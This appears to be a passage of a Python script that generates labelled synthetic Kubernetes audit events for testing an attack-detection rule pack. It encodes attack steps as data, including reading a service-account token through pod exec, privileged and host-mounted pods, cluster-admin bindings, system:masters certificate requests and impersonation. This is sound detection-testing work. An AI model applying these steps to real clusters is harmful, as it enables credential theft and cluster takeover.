#!/usr/bin/env python3
"""Writes realistic audit.k8s.io/v1 events for every attack class the rule pack must see, in every
form, among benign neighbours: the recall test of crates/kir/tests/attack_classes.rs.

    python3 scripts/generate-attack-classes.py crates/kir/tests/data/attack-classes

writes, deterministically (seeded; gzip without a timestamp):
  stolen-tokens.jsonl.gz        the attacks by a stolen pod token, a CI token from a public address
                                and a person, amid the benign neighbours, in time order
  people.jsonl.gz               the same requests by people on private addresses (no identity rule
                                helps: only the rule for the attack class can find them)
  ordinary-operations.jsonl.gz  the benign neighbours alone (about two hours of a team's work)
  labels.tsv                    auditID, class, form, kind (attack | benign)

Each class gets its successful form (ok), its authorized-but-failed form(s) (fail: 500/404/409/422,
or an admission denial: 403 with decision allow) and its refused form (refused: 403 with decision
forbid, no request body, no name for a create: what kube-apiserver really writes when authorization
refuses). Labels go to events/labels.tsv: auditID, class, form, kind (attack|benign).
"""
import json, uuid, os, datetime, base64, copy, random

random.seed(14)
import gzip
import subprocess
import sys

if len(sys.argv) == 2:
    # Both variants, each in a process of its own (the generator keeps its state in globals).
    for variant in ["stolen-tokens", "people"]:
        subprocess.run([sys.executable, __file__, sys.argv[1], variant], check=True)
    sys.exit(0)
if len(sys.argv) != 3:
    sys.exit("usage: generate-attack-classes.py OUTDIR")
OUT = sys.argv[1]
NEUTRAL = sys.argv[2] == "people"
T = datetime.datetime(2026, 12, 1, 10, 0, 0, tzinfo=datetime.timezone.utc)
labels = []
files = {}


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def nid(prefix):
    # deterministic-looking uuid
    return str(uuid.UUID(int=random.getrandbits(128)))


# ---------------------------------------------------------------- actors
KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
A_SA = dict(user={"username": "system:serviceaccount:storefront:storefront-web", "uid": "5b1c2b7e-8d0e-4b53-9b0f-6c0a7a3e2d11",
                  "groups": ["system:serviceaccounts", "system:serviceaccounts:storefront", "system:authenticated"],
                  "extra": {"authentication.kubernetes.io/pod-name": ["storefront-web-7d9c8b6f5-x2x8k"],
                            "authentication.kubernetes.io/pod-uid": ["0b7f0f52-6f0a-4f61-9d8e-3a6c2b1f9e77"]}},
            sourceIPs=["10.88.0.23"], userAgent=KUBECTL)
A_USER = dict(user={"username": "bob@corp.example", "uid": "oidc:bob", "groups": ["dev-team", "system:authenticated"]},
              sourceIPs=["198.51.100.77"], userAgent=KUBECTL)
A_CI = dict(user={"username": "system:serviceaccount:ci:deployer", "uid": "d3a6a2c4-1111-4c1e-8a3e-2f9d1c0b7a55",
                  "groups": ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"]},
            sourceIPs=["203.0.113.9"], userAgent="python-requests/2.31.0")
A_ANON = dict(user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
              sourceIPs=["10.88.0.31"], userAgent="curl/8.5.0")
ADMIN = dict(user={"username": "admin@corp.example", "uid": "oidc:admin", "groups": ["platform-admins", "system:authenticated"]},
             sourceIPs=["10.20.0.15"], userAgent=KUBECTL)
ALICE = dict(user={"username": "alice@corp.example", "uid": "oidc:alice", "groups": ["dev-team", "system:authenticated"]},
             sourceIPs=["10.20.0.41"], userAgent=KUBECTL)
if NEUTRAL:
    # attackers that no identity-based rule knows: people with a stolen kubeconfig, from inside
    A_CI = dict(user={"username": "mallory@corp.example", "uid": "oidc:mallory", "groups": ["platform-admins", "system:authenticated"]},
                sourceIPs=["10.20.0.66"], userAgent=KUBECTL)
    A_SA = dict(user={"username": "dan@corp.example", "uid": "oidc:dan", "groups": ["dev-team", "system:authenticated"]},
                sourceIPs=["10.20.0.67"], userAgent=KUBECTL)
    A_USER = dict(user={"username": "bob@corp.example", "uid": "oidc:bob", "groups": ["dev-team", "system:authenticated"]},
                  sourceIPs=["10.20.0.77"], userAgent=KUBECTL)
NODE = dict(user={"username": "system:node:node-1", "groups": ["system:nodes", "system:authenticated"]},
            sourceIPs=["10.255.0.11"], userAgent="kubelet/v1.30.2 (linux/amd64) kubernetes/3968350")


def ctrl(name):
    return dict(user={"username": f"system:serviceaccount:kube-system:{name}", "uid": nid("u"),
                      "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]},
                sourceIPs=["10.255.0.10"], userAgent=f"kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:{name}")


def sa(ns, name, ip="10.88.1.5", ua="Go-http-client/2.0"):
    return dict(user={"username": f"system:serviceaccount:{ns}:{name}", "uid": nid("u"),
                      "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]},
                sourceIPs=[ip], userAgent=ua)


GROUPS = {"": "", "apps": "apps", "batch": "batch", "rbac": "rbac.authorization.k8s.io",
          "cert": "certificates.k8s.io", "adm": "admissionregistration.k8s.io", "net": "networking.k8s.io",
          "authz": "authorization.k8s.io", "events": "events.k8s.io", "authn": "authentication.k8s.io"}
KIND = {"pods": "Pod", "deployments": "Deployment", "daemonsets": "DaemonSet", "statefulsets": "StatefulSet",
        "replicasets": "ReplicaSet", "jobs": "Job", "cronjobs": "CronJob", "secrets": "Secret", "configmaps": "ConfigMap",
        "services": "Service", "clusterroles": "ClusterRole", "roles": "Role", "clusterrolebindings": "ClusterRoleBinding",
        "rolebindings": "RoleBinding", "namespaces": "Namespace", "serviceaccounts": "ServiceAccount",
        "networkpolicies": "NetworkPolicy", "certificatesigningrequests": "CertificateSigningRequest",
        "mutatingwebhookconfigurations": "MutatingWebhookConfiguration",
        "validatingwebhookconfigurations": "ValidatingWebhookConfiguration", "events": "Event",
        "persistentvolumes": "PersistentVolume", "nodes": "Node"}
RGROUP = {"deployments": "apps", "daemonsets": "apps", "statefulsets": "apps", "replicasets": "apps", "jobs": "batch",
          "cronjobs": "batch", "clusterroles": "rbac", "roles": "rbac", "clusterrolebindings": "rbac", "rolebindings": "rbac",
          "networkpolicies": "net", "certificatesigningrequests": "cert", "mutatingwebhookconfigurations": "adm",
          "validatingwebhookconfigurations": "adm", "selfsubjectrulesreviews": "authz",
          "selfsubjectaccessreviews": "authz", "tokenreviews": "authn"}
VERBMETHOD = {"create": "POST", "update": "PUT", "patch": "PATCH", "delete": "DELETE", "deletecollection": "DELETE",
              "get": "GET", "list": "GET", "watch": "GET"}
CLUSTER_SCOPED = {"clusterroles", "clusterrolebindings", "namespaces", "nodes", "certificatesigningrequests",
                  "mutatingwebhookconfigurations", "validatingwebhookconfigurations", "persistentvolumes",
                  "selfsubjectrulesreviews", "selfsubjectaccessreviews", "tokenreviews"}

REASON = {
    200: None, 201: None, 101: None,
    404: ("NotFound", "{res}{sub} \"{name}\" not found"),
    409: ("AlreadyExists", "{res} \"{name}\" already exists"),
    422: ("Invalid", "{kind} \"{name}\" is invalid: metadata.name: Invalid value: \"{name}\": a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters"),
    500: ("InternalError", "Internal error occurred: error dialing backend: dial tcp 10.255.0.11:10250: connect: connection refused"),
}


class Clock:
    def __init__(self, t):
        self.t = t

    def tick(self, s=7):
        self.t += datetime.timedelta(seconds=s)
        return self.t


clock = Clock(T)


def uri_for(resource, ns, name, sub, verb, query=""):
    g = GROUPS[RGROUP.get(resource, "")]
    ver = "v1"
    base = f"/apis/{g}/{ver}" if g else "/api/v1"
    p = base
    if ns and resource not in CLUSTER_SCOPED:
        p += f"/namespaces/{ns}"
    p += f"/{resource}"
    if name and verb not in ("create", "list", "deletecollection") or (name and sub):
        p += f"/{name}"
    if sub:
        p += f"/{sub}"
    if verb == "watch":
        query = ("watch=true&" + query) if query else "watch=true"
    if query:
        p += "?" + query
    return p


def ev(cls, form, kind, actor, verb, resource, ns=None, name=None, sub=None, code=200, body=None, resp=None,
       decision=None, query="", uri=None, extra_ann=None, impersonated=None, gap=7, reason_msg=None, level="RequestResponse",
       admission=None):
    """One ResponseComplete event. decision defaults to forbid for 403 (unless admission), allow otherwise."""
    t0 = clock.tick(gap)
    aid = nid("a")
    if decision is None:
        decision = "forbid" if (code == 403 and not admission) else "allow"
    obj = {"resource": resource}
    if ns and resource not in CLUSTER_SCOPED:
        obj["namespace"] = ns
    refused = decision == "forbid"
    # kube-apiserver fills objectRef.name of a create from the body only after authorization
    if name and not (refused and verb == "create" and not sub):
        obj["name"] = name
    g = GROUPS[RGROUP.get(resource, "")]
    if g:
        obj["apiGroup"] = g
    obj["apiVersion"] = "v1"
    if sub:
        obj["subresource"] = sub
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": aid, "stage": "ResponseComplete",
         "requestURI": uri or uri_for(resource, ns, name, sub, verb, query), "verb": verb,
         "user": copy.deepcopy(actor["user"]), "sourceIPs": actor["sourceIPs"], "userAgent": actor["userAgent"],
         "objectRef": obj}
    if impersonated:
        e["impersonatedUser"] = impersonated
    st = {"metadata": {}, "code": code}
    scope = f"in the namespace \"{ns}\"" if ns and resource not in CLUSTER_SCOPED else "at the cluster scope"
    if code == 403 and refused:
        who = actor["user"]["username"]
        if impersonated:
            who = impersonated["username"]
        res = resource + (f"/{sub}" if sub else "")
        gname = g
        msg = reason_msg or f"{res} is forbidden: User \"{who}\" cannot {verb} resource \"{res}\" in API group \"{gname}\" {scope}"
        if name and not (verb == "create" and not sub):
            msg = reason_msg or f"{res} \"{name}\" is forbidden: User \"{who}\" cannot {verb} resource \"{res}\" in API group \"{gname}\" {scope}"
        st.update({"status": "Failure", "message": msg, "reason": "Forbidden", "details": {"kind": resource}})
        if name and verb != "create":
            st["details"]["name"] = name
    elif code == 403:
        st.update({"status": "Failure", "message": reason_msg or admission, "reason": "Forbidden",
                   "details": {"name": name or "", "kind": resource}})
    elif code >= 400:
        r, m = REASON[code]
        msg = reason_msg or m.format(res=resource, sub=("/" + sub if sub else ""), name=name or "", kind=KIND.get(resource, resource))
        st.update({"status": "Failure", "message": msg, "reason": r, "details": {"name": name or "", "kind": resource}})
    e["responseStatus"] = st
    if body is not None and not refused and level in ("Request", "RequestResponse"):
        e["requestObject"] = body
    if level == "RequestResponse":
        if code >= 400:
            e["responseObject"] = dict({"kind": "Status", "apiVersion": "v1"}, **st)
        elif resp is not None:
            e["responseObject"] = resp
        elif body is not None and isinstance(body, dict) and verb in ("create", "update") and code < 300:
            r = copy.deepcopy(body)
            r.setdefault("metadata", {})
            r["metadata"].setdefault("uid", nid("o"))
            r["metadata"]["resourceVersion"] = str(random.randint(10000, 99999))
            e["responseObject"] = r
    e["requestReceivedTimestamp"] = ts(t0)
    e["stageTimestamp"] = ts(t0 + datetime.timedelta(milliseconds=random.randint(2, 40)))
    ann = {"authorization.k8s.io/decision": decision,
           "authorization.k8s.io/reason": "" if refused else reason_for(actor)}
    if extra_ann:
        ann.update(extra_ann)
    e["annotations"] = ann
    files.setdefault(cls, []).append(e)
    labels.append((aid, cls, form, kind))
    return aid


def reason_for(actor):
    u = actor["user"]["username"]
    if u.startswith("system:serviceaccount:storefront"):
        return "RBAC: allowed by ClusterRoleBinding \"storefront-web-ops\" of ClusterRole \"storefront-ops\" to ServiceAccount \"storefront-web/storefront\""
    if u.startswith("system:serviceaccount:ci"):
        return "RBAC: allowed by ClusterRoleBinding \"ci-deployer\" of ClusterRole \"cluster-admin\" to ServiceAccount \"deployer/ci\""
    if u.startswith("system:node:"):
        return ""
    return f"RBAC: allowed by ClusterRoleBinding \"{u.split('@')[0]}-binding\" of ClusterRole \"cluster-admin\" to User \"{u}\""


# ------------------------------------------------------------------ bodies
def pod(name, ns, spec_extra=None, cont_extra=None, image="busybox:1.36", cmd=None, args=None, sa_name=None):
    c = {"name": "main", "image": image, "resources": {}, "terminationMessagePath": "/dev/termination-log",
         "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}
    if cmd:
        c["command"] = cmd
    if args:
        c["args"] = args
    if cont_extra:
        c.update(cont_extra)
    spec = {"containers": [c], "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"}
    if sa_name:
        spec["serviceAccountName"] = sa_name
    if spec_extra:
        spec.update(spec_extra)
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "creationTimestamp": None}, "spec": spec, "status": {}}


def workload(kind, name, ns, podspec):
    tmpl = {"metadata": {"labels": {"app": name}}, "spec": podspec}
    if kind == "Deployment":
        spec = {"replicas": 1, "selector": {"matchLabels": {"app": name}}, "template": tmpl}
        av = "apps/v1"
    elif kind in ("DaemonSet", "StatefulSet", "ReplicaSet"):
        spec = {"selector": {"matchLabels": {"app": name}}, "template": tmpl}
        if kind == "StatefulSet":
            spec["serviceName"] = name
        av = "apps/v1"
    elif kind == "Job":
        tmpl["spec"] = dict(podspec, restartPolicy="Never")
        spec = {"template": tmpl, "backoffLimit": 0}
        av = "batch/v1"
    elif kind == "CronJob":
        tmpl["spec"] = dict(podspec, restartPolicy="OnFailure")
        spec = {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": tmpl}}}
        av = "batch/v1"
    return {"kind": kind, "apiVersion": av, "metadata": {"name": name, "namespace": ns, "creationTimestamp": None}, "spec": spec, "status": {}}


def csr_pem(cn, orgs):
    # A PEM "certificate request" whose DER carries the subject as readable strings (enough for kir.csr.subject).
    der = b"\x30\x82\x01\x00" + b"".join(b"\x31\x10\x30\x0e\x06\x03\x55\x04\x0a\x0c" + bytes([len(o)]) + o.encode() for o in orgs)
    der += b"\x31\x10\x30\x0e\x06\x03\x55\x04\x03\x0c" + bytes([len(cn)]) + cn.encode() + b"\x00" * 40
    pem = "-----BEGIN CERTIFICATE REQUEST-----\n" + base64.b64encode(der).decode() + "\n-----END CERTIFICATE REQUEST-----\n"
    return base64.b64encode(pem.encode()).decode()


def three(cls, actor, refused_actor, verb, resource, ns=None, name=None, sub=None, body=None, ok=201, fails=(409,), **kw):
    """success, authorized-but-failed, refused."""
    ev(cls, "ok", "attack", actor, verb, resource, ns, name, sub, code=ok, body=body, **kw)
    for f in fails:
        ev(cls, f"fail-{f}", "attack", actor, verb, resource, ns, name, sub, code=f, body=body, **kw)
    ev(cls, "refused", "attack", refused_actor, verb, resource, ns, name, sub, code=403, body=body, **kw)


# =================================================================== attack classes
PRIV = {"securityContext": {"privileged": True}}


def classes():
    # 1 secrets listed/watched cluster-wide
    c = "secrets-cluster-wide"
    three(c, A_SA, A_SA, "list", "secrets", ok=200, fails=(500,), query="limit=500")
    ev(c, "ok-watch", "attack", A_CI, "watch", "secrets", code=200, query="allowWatchBookmarks=true&resourceVersion=4711")
    ev(c, "refused-watch", "attack", A_USER, "watch", "secrets", code=403)

    # 2 secrets read in another namespace (get) / listed in kube-system
    c = "secrets-other-namespace"
    three(c, A_SA, A_SA, "get", "secrets", ns="kube-system", name="aws-credentials", ok=200, fails=(404,))
    three(c, A_USER, A_USER, "list", "secrets", ns="kube-system", ok=200, fails=(500,), query="limit=500")
    ev(c, "ok-user-get", "attack", A_USER, "get", "secrets", ns="payments", name="db-root-password", code=200)
    ev(c, "refused-user-get", "attack", A_USER, "get", "secrets", ns="payments", name="db-root-password", code=403)
    ev(c, "ok-watch-ns", "attack", A_SA, "watch", "secrets", ns="payments", code=200)

    # 3 TokenRequest for another service account
    c = "token-request-other-sa"
    tr = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
          "spec": {"audiences": None, "expirationSeconds": 31536000, "boundObjectRef": None}, "status": {"token": "", "expirationTimestamp": None}}
    three(c, A_SA, A_SA, "create", "serviceaccounts", ns="payments", name="payments-api", sub="token", body=tr, fails=(404,))
    three(c, A_USER, A_USER, "create", "serviceaccounts", ns="kube-system", name="clusterrole-aggregation-controller", sub="token", body=tr, fails=(404,))
    ev(c, "ok-same-ns", "attack", A_SA, "create", "serviceaccounts", "storefront", "storefront-admin", "token", code=201, body=tr)

    # 4 pods/exec, attach, portforward
    c = "pods-exec"
    q = "command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stdin=true&stdout=true&stderr=true"
    ev(c, "ok", "attack", A_SA, "create", "pods", "payments", "payments-api-6f7d9-kx2lm", "exec", code=101, query=q)
    ev(c, "ok-ws", "attack", A_USER, "get", "pods", "kube-system", "etcd-cp-1", "exec", code=101, query="command=sh&container=etcd&stdin=true&stdout=true&tty=true")
    ev(c, "fail-500", "attack", A_SA, "create", "pods", "payments", "payments-api-6f7d9-kx2lm", "exec", code=500, query=q)
    ev(c, "fail-404", "attack", A_SA, "create", "pods", "payments", "payments-api-6f7d9-zzzzz", "exec", code=404, query=q)
    ev(c, "refused", "attack", A_SA, "create", "pods", "kube-system", "kube-proxy-8m2kq", "exec", code=403, query="command=id&stdout=true")
    ev(c, "refused-ws", "attack", A_USER, "get", "pods", "kube-system", "etcd-cp-1", "exec", code=403, query="command=sh&stdin=true&stdout=true&tty=true")
    c = "pods-attach"
    three(c, A_USER, A_USER, "create", "pods", "payments", "payments-api-6f7d9-kx2lm", "attach", ok=101, fails=(500,), query="container=app&stdin=true&stdout=true&tty=true")
    c = "pods-portforward"
    three(c, A_SA, A_SA, "create", "pods", "payments", "postgres-0", "portforward", ok=101, fails=(500,), query="ports=5432")
    ev(c, "ok-ws", "attack", A_USER, "get", "pods", "payments", "postgres-0", "portforward", code=101, query="ports=5432")

    # 5 ephemeral containers
    c = "ephemeral-containers"
    eb = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "payments-api-6f7d9-kx2lm", "namespace": "payments"},
          "spec": {"containers": [{"name": "app", "image": "registry.corp.example/payments/api:4.2"}],
                   "ephemeralContainers": [{"name": "debugger-x7k2p", "image": "busybox:1.36", "stdin": True, "tty": True,
                                            "targetContainerName": "app", "securityContext": {"privileged": True}}]}}
    three(c, A_USER, A_USER, "patch", "pods", "payments", "payments-api-6f7d9-kx2lm", "ephemeralcontainers", body=eb, ok=200, fails=(404, 422))
    ev(c, "ok-update", "attack", A_SA, "update", "pods", "payments", "payments-api-6f7d9-kx2lm", "ephemeralcontainers", code=200, body=eb)

    # 6 nodes/proxy
    c = "nodes-proxy"
    ev(c, "ok", "attack", A_SA, "get", "nodes", None, "node-1", "proxy", code=200, uri="/api/v1/nodes/node-1/proxy/runningpods/")
    ev(c, "ok-exec", "attack", A_SA, "create", "nodes", None, "node-1", "proxy", code=101, uri="/api/v1/nodes/node-1/proxy/exec/kube-system/kube-proxy-8m2kq/kube-proxy?command=id&output=1")
    ev(c, "ok-logs", "attack", A_USER, "get", "nodes", None, "node-1", "proxy", code=200, uri="/api/v1/nodes/node-1/proxy/logs/")
    ev(c, "fail-500", "attack", A_SA, "get", "nodes", None, "node-2", "proxy", code=500, uri="/api/v1/nodes/node-2/proxy/pods")
    ev(c, "fail-404", "attack", A_SA, "get", "nodes", None, "node-9", "proxy", code=404, uri="/api/v1/nodes/node-9/proxy/pods")
    ev(c, "refused", "attack", A_USER, "get", "nodes", None, "node-1", "proxy", code=403, uri="/api/v1/nodes/node-1/proxy/runningpods/")
    ev(c, "refused-create", "attack", A_SA, "create", "nodes", None, "node-1", "proxy", code=403, uri="/api/v1/nodes/node-1/proxy/run/kube-system/kube-proxy-8m2kq/kube-proxy?cmd=id")

    # 7 privileged / hostPath / hostPID / hostNetwork pods and workloads
    variants = {
        "privileged": dict(cont_extra=PRIV),
        "hostpath-root": dict(spec_extra={"volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}]},
                              cont_extra={"volumeMounts": [{"name": "host", "mountPath": "/host"}]}),
        "hostpid": dict(spec_extra={"hostPID": True}),
        "hostnetwork": dict(spec_extra={"hostNetwork": True}),
    }
    kinds = ["Pod", "Deployment", "DaemonSet", "Job", "CronJob", "StatefulSet", "ReplicaSet"]
    for vname, v in variants.items():
        c = f"host-escape-{vname}"
        for k in kinds:
            p = pod(f"x-{vname}", "storefront", **v)
            res = KIND_INV[k]
            body = p if k == "Pod" else workload(k, f"x-{vname}", "storefront", p["spec"])
            who = A_CI if k != "Pod" else A_SA
            ev(c, f"ok-{k}", "attack", who, "create", res, "storefront", f"x-{vname}", code=201, body=body)
            ev(c, f"fail-409-{k}", "attack", who, "create", res, "storefront", f"x-{vname}", code=409, body=body)
            ev(c, f"fail-422-{k}", "attack", who, "create", res, "storefront", f"x-{vname}", code=422, body=body)
            if k == "Pod":
                ev(c, f"fail-podsecurity-{k}", "attack", who, "create", res, "storefront", f"x-{vname}", code=403, body=body,
                   admission=f"pods \"x-{vname}\" is forbidden: violates PodSecurity \"baseline:latest\": host namespaces",
                   extra_ann={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"})
            ev(c, f"refused-{k}", "attack", A_USER, "create", res, "storefront", f"x-{vname}", code=403, body=body)

    # 8 pod created by patch/update of a workload template
    c = "workload-template-patch"
    smp = {"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"privileged": True}}]}}}}
    ev(c, "ok-smp-privileged", "attack", A_CI, "patch", "deployments", "storefront", "storefront-web", code=200, body=smp,
       uri="/apis/apps/v1/namespaces/storefront/deployments/storefront-web?fieldManager=kubectl-patch")
    smp2 = {"spec": {"template": {"spec": {"hostPID": True, "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}}}
    ev(c, "ok-smp-hostpath", "attack", A_CI, "patch", "daemonsets", "monitoring", "node-exporter", code=200, body=smp2)
    jp = [{"op": "add", "path": "/spec/template/spec/hostPID", "value": True},
          {"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}]
    ev(c, "ok-jsonpatch", "attack", A_CI, "patch", "deployments", "storefront", "storefront-web", code=200, body=jp)
    jp2 = [{"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "host", "hostPath": {"path": "/"}}}]
    ev(c, "ok-jsonpatch-hostpath", "attack", A_CI, "patch", "statefulsets", "payments", "postgres", code=200, body=jp2)
    ev(c, "ok-jsonpatch-cronjob", "attack", A_CI, "patch", "cronjobs", "payments", "nightly-report", code=200,
       body=[{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}])
    upd = workload("Deployment", "storefront-web", "storefront", pod("x", "storefront", cont_extra=PRIV)["spec"])
    ev(c, "ok-update", "attack", A_CI, "update", "deployments", "storefront", "storefront-web", code=200, body=upd)
    ev(c, "fail-409-update", "attack", A_CI, "update", "deployments", "storefront", "storefront-web", code=409, body=upd,
       reason_msg="Operation cannot be fulfilled on deployments.apps \"storefront-web\": the object has been modified; please apply your changes to the latest version and try again")
    ev(c, "fail-422-smp", "attack", A_CI, "patch", "deployments", "storefront", "storefront-web", code=422, body=smp)
    ev(c, "refused-smp", "attack", A_USER, "patch", "deployments", "storefront", "storefront-web", code=403, body=smp)
    ev(c, "refused-jsonpatch", "attack", A_SA, "patch", "daemonsets", "monitoring", "node-exporter", code=403, body=jp)

    # 9 CSR create / approve
    c = "csr"
    body = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "ops-client"},
            "spec": {"request": csr_pem("ops-admin", ["system:masters"]), "signerName": "kubernetes.io/kube-apiserver-client",
                     "expirationSeconds": 31536000, "usages": ["client auth"]}}
    three(c, A_CI, A_USER, "create", "certificatesigningrequests", name="ops-client", body=body, fails=(409,))
    body2 = copy.deepcopy(body)
    body2["metadata"]["name"] = "cm-client"
    body2["spec"]["request"] = csr_pem("system:kube-controller-manager", [])
    ev(c, "ok-cn-controller-manager", "attack", A_CI, "create", "certificatesigningrequests", name="cm-client", code=201, body=body2)
    appr = copy.deepcopy(body)
    appr["status"] = {"conditions": [{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "This CSR was approved by kubectl certificate approve."}]}
    ev(c, "ok-approve", "attack", A_CI, "update", "certificatesigningrequests", None, "ops-client", "approval", code=200, body=appr)
    ev(c, "fail-409-approve", "attack", A_CI, "update", "certificatesigningrequests", None, "ops-client", "approval", code=409, body=appr,
       reason_msg="Operation cannot be fulfilled on certificatesigningrequests.certificates.k8s.io \"ops-client\": the object has been modified; please apply your changes to the latest version and try again")
    ev(c, "fail-404-approve", "attack", A_CI, "update", "certificatesigningrequests", None, "ops-client2", "approval", code=404, body=appr)
    ev(c, "refused-approve", "attack", A_USER, "update", "certificatesigningrequests", None, "ops-client", "approval", code=403, body=appr)
    ev(c, "refused-approve-patch", "attack", A_SA, "patch", "certificatesigningrequests", None, "ops-client", "approval", code=403)

    # 10 bindings to cluster-admin / admin / new wildcard role / renamed role
    c = "powerful-binding"
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ops-helper"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": "storefront-web", "namespace": "storefront"}]}
    three(c, A_CI, A_SA, "create", "clusterrolebindings", name="ops-helper", body=crb, fails=(409, 422))
    rb = {"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "bob-admin", "namespace": "kube-system"},
          "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
          "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "bob@corp.example"}]}
    three(c, A_CI, A_USER, "create", "rolebindings", ns="kube-system", name="bob-admin", body=rb, fails=(409,))
    # escalation prevention: authorized to create bindings, refused for the role's power (403, decision allow)
    ev(c, "fail-escalation-check", "attack", A_USER, "create", "clusterrolebindings", None, "ops-helper", code=403, body=crb,
       admission="clusterrolebindings.rbac.authorization.k8s.io \"ops-helper\" is forbidden: user \"bob@corp.example\" (groups=[\"dev-team\" \"system:authenticated\"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:[\"*\"], Resources:[\"*\"], Verbs:[\"*\"]}")
    # wildcard role created then bound (renamed cluster-admin)
    role = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "monitoring-helper"},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
    ev(c, "ok-role", "attack", A_CI, "create", "clusterroles", None, "monitoring-helper", code=201, body=role)
    crb2 = copy.deepcopy(crb)
    crb2["metadata"]["name"] = "monitoring-helper"
    crb2["roleRef"]["name"] = "monitoring-helper"
    ev(c, "ok-renamed", "attack", A_CI, "create", "clusterrolebindings", None, "monitoring-helper", code=201, body=crb2)
    ev(c, "fail-409-renamed", "attack", A_CI, "create", "clusterrolebindings", None, "monitoring-helper", code=409, body=crb2)
    ev(c, "refused-role", "attack", A_SA, "create", "clusterroles", None, "monitoring-helper", code=403, body=role)
    # add a subject to the existing cluster-admin binding (JSON patch; Request level: no response body)
    jp = [{"op": "add", "path": "/subjects/-", "value": {"kind": "ServiceAccount", "name": "storefront-web", "namespace": "storefront"}}]
    ev(c, "ok-patch-crb-cluster-admin", "attack", A_CI, "patch", "clusterrolebindings", None, "cluster-admin", code=200, body=jp, level="Request")
    ev(c, "refused-patch-crb", "attack", A_SA, "patch", "clusterrolebindings", None, "cluster-admin", code=403, body=jp)
    ev(c, "ok-update-crb-subjects", "attack", A_CI, "update", "clusterrolebindings", None, "ci-deployer", code=200,
       body=dict(crb, metadata={"name": "ci-deployer"}, subjects=crb["subjects"] + [{"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}]))

    # 11 role escalate/bind/impersonate verbs; aggregation to admin
    c = "rbac-escalation-verbs"
    r = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "rbac-manager"},
         "rules": [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles", "clusterrolebindings"], "verbs": ["bind", "escalate", "create", "update"]}]}
    three(c, A_CI, A_SA, "create", "clusterroles", name="rbac-manager", body=r, fails=(409,))
    ri = {"kind": "Role", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "impersonator", "namespace": "storefront"},
          "rules": [{"apiGroups": [""], "resources": ["users", "groups", "serviceaccounts"], "verbs": ["impersonate"]}]}
    ev(c, "ok-impersonate-role", "attack", A_CI, "create", "roles", "storefront", "impersonator", code=201, body=ri)
    agg = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "secret-reader-agg", "labels": {"rbac.authorization.k8s.io/aggregate-to-edit": "true", "rbac.authorization.k8s.io/aggregate-to-view": "true"}},
           "rules": [{"apiGroups": [""], "resources": ["secrets", "pods/exec"], "verbs": ["get", "list", "create"]}]}
    ev(c, "ok-aggregate-to-view", "attack", A_CI, "create", "clusterroles", None, "secret-reader-agg", code=201, body=agg)
    ev(c, "refused-aggregate", "attack", A_SA, "create", "clusterroles", None, "secret-reader-agg", code=403, body=agg)
    jp = [{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}]
    ev(c, "ok-jsonpatch-wildcard", "attack", A_CI, "patch", "clusterroles", None, "view-extra", code=200, body=jp, level="Request")
    ev(c, "ok-patch-escalate", "attack", A_CI, "patch", "clusterroles", None, "storefront-ops", code=200,
       body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["escalate", "bind"]}]})
    # using the escalate/bind verbs directly
    ev(c, "refused-bind", "attack", A_USER, "create", "rolebindings", "storefront", None, code=403)

    # 12 impersonation
    c = "impersonation"
    ev(c, "ok", "attack", A_CI, "list", "secrets", "kube-system", code=200, impersonated={"username": "system:admin", "groups": ["system:masters"]})
    ev(c, "ok-node", "attack", A_CI, "get", "secrets", "kube-system", "bootstrap-token-abcdef", code=200,
       impersonated={"username": "system:node:node-1", "groups": ["system:nodes", "system:authenticated"]})
